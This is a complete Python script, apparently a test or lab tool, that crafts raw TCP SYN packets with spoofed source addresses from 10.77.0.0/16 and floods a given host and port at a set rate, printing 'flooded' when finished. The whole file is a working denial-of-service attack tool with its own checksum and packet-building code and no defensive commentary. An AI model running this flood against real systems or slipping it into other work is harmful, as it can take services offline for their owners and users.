"""SYNs from addresses that nobody has: flood.py ADDRESS PORT COUNT PER_SECOND

The sources are 10.77.0.0/16. Says `flooded` when all are sent.
"""

import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, destination, source_port, port):
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)

    def header(check):
        return struct.pack("!HHIIBBHHH", source_port, port, source_port * 7919, 0, 5 << 4, 2, 64240, check, 0)

    segment = header(checksum(addresses + struct.pack("!HH", socket.IPPROTO_TCP, 20) + header(0)))
    # The kernel fills length, identification and checksum of the IP header in.
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + addresses + segment


def main():
    address, port, count, per_second = sys.argv[1], *map(int, sys.argv[2:])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin = time.monotonic()
    for number in range(count):
        source = f"10.77.{number // 250 % 250}.{number % 250 + 1}"
        raw.sendto(syn(source, address, 1024 + number % 60000, port), (address, 0))
        time.sleep(max(0.0, begin + (number + 1) / per_second - time.monotonic()))
    print("flooded", flush=True)


main()
